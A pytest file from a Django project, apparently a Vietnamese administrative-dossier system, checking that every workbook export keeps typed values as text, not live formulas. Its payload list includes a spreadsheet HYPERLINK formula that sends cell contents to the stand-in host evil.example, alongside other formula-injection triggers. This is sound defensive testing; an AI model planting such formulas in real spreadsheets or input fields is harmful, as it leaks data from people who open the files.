"""Every workbook motcua sends keeps what people typed as text: a name typed as a formula
comes out as that text, never as a live formula (formula injection), in every export."""

import io
import json
import re
from datetime import date, datetime
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from motcua.catalog.selectors import catalog_export_data
from motcua.catalog.services import catalog_import
from motcua.catalog.spreadsheet import data_to_workbook, workbook_to_data
from motcua.core import spreadsheets
from motcua.dossiers import forms_pdf
from motcua.org.models import Role
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
SRC = Path(__file__).resolve().parents[2] / "src" / "motcua"
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
PAYLOADS = [HYPERLINK, "=1+2", "+1", "-2+3", "@SUM(A1)", "#N/A"]


def text_cells(content: bytes) -> dict[str, str]:
    """Every cell of every sheet holding one of the payloads -> its data type."""
    found = {}
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and any(p in c.value for p in PAYLOADS):
                    found[c.value] = c.data_type
    return found


def assert_all_text(content: bytes, expected: list[str]) -> None:
    found = text_cells(content)
    for value in expected:
        assert found.get(value) == "s", (value, found)


def _receive(world, name, address):
    return world.receive(applicant={"name": name, "address": address, "phone": "0912345678"})


@pytest.fixture
def typed(world):
    """One dossier per payload, the payload as the applicant's name and in the address."""
    return [_receive(world, p, f"{p} Ấp 3") for p in PAYLOADS]


# --- the helper --------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
def test_texts_stay_text_numbers_and_dates_stay_what_they_are(write_only):
    book = spreadsheets.new_workbook(write_only=write_only)
    ws = book.create_sheet("x") if write_only else book.active
    when = datetime(2026, 3, 10, 8, 30)
    ws.append([*PAYLOADS, 42, 2.5, when, date(2026, 3, 10)])
    ws.append([spreadsheets.cell(ws, "=9*9"), "Ấp\x073"])
    if not write_only:
        ws["A3"] = "=7"  # set one by one, past `append`
        spreadsheets.write(ws, 4, 1, "=8")
    sheet = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(book))).worksheets[0]
    first = [(c.value, c.data_type) for c in sheet[1]]
    assert first[: len(PAYLOADS)] == [(p, "s") for p in PAYLOADS]
    midnight = datetime(2026, 3, 10)
    assert first[len(PAYLOADS) :] == [(42, "n"), (2.5, "n"), (when, "d"), (midnight, "d")]
    # A control character cannot be stored in a workbook: it is dropped, not the export.
    second = [(c.value, c.data_type) for c in sheet[2] if c.value is not None]
    assert second == [("=9*9", "s"), ("Ấp3", "s")]
    if not write_only:
        assert (sheet["A3"].value, sheet["A3"].data_type) == ("=7", "s")
        assert (sheet["A4"].value, sheet["A4"].data_type) == ("=8", "s")


def test_no_module_makes_or_saves_a_workbook_but_the_helper():
    """A new export cannot forget: only core/spreadsheets.py may call openpyxl's Workbook."""
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheets.py" or path.parent.name != "core"
        if re.search(r"\bWorkbook\(|import Workbook\b", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# --- each export -------------------------------------------------------------------------


def test_the_staff_queue_export(client, world, typed):
    client.force_login(world.staff[Role.RECEPTION_OFFICER])
    answer = client.get(reverse("backoffice:queue_export", args=["tat-ca"]))
    assert answer.status_code == 200
    assert_all_text(answer.content, PAYLOADS)


def _monitoring_client(client, world):
    # One who may read applicants' data: for others the exports mask names and addresses.
    client.force_login(UserFactory(is_staff=True, is_superuser=True, agency=world.commune_ubnd))
    return client


def test_the_monitoring_drill_down_export(client, world, typed):
    client = _monitoring_client(client, world)
    answer = client.get(reverse("monitoring:export"), {"chi_so": "received"})
    assert answer.status_code == 200, answer.get("Location")
    assert_all_text(answer.content, PAYLOADS)


def test_the_form_07_register(client, world, typed):
    client = _monitoring_client(client, world)
    answer = client.get(reverse("monitoring:register"))
    assert answer.status_code == 200, answer.get("Location")
    found = text_cells(answer.content)
    for p in PAYLOADS:
        assert found[p] == "s"  # the name
        assert found[f"{p} Ấp 3, 0912345678"] == "s"  # the address and phone


def test_the_handling_report_names_agencies_as_typed(client, world, typed):
    world.commune_ubnd.name = "=1+2"
    world.commune_ubnd.save()
    client = _monitoring_client(client, world)
    answer = client.get(
        reverse("monitoring:report", args=["xlsx"]), {"co_quan": world.commune_ubnd.pk}
    )
    assert answer.status_code == 200, answer.get("Location")
    assert text_cells(answer.content).get("=1+2") == "s"


def test_the_register_of_the_official_forms(world, typed):
    today = timezone.localdate()
    content = forms_pdf.register_workbook(world.commune_ubnd, today, today)
    assert_all_text(content, PAYLOADS)


def test_the_catalog_export_keeps_and_reimports_typed_text():
    data = json.loads((FIXTURES / "small_catalog.json").read_text(encoding="utf-8"))
    data["fields"][0]["name"] = "=1+2"
    data["procedures"][0]["name"] = HYPERLINK
    data["procedures"][0]["components"][0]["name"] = "@SUM(A1)"
    catalog_import(actor=None, data=data)
    exported = catalog_export_data()
    content = data_to_workbook(exported)
    assert_all_text(content, ["=1+2", HYPERLINK, "@SUM(A1)"])
    catalog_import(actor=None, data=workbook_to_data(io.BytesIO(content)))
    assert catalog_export_data() == exported
    names = {p["name"] for p in exported["procedures"]}
    assert HYPERLINK in names
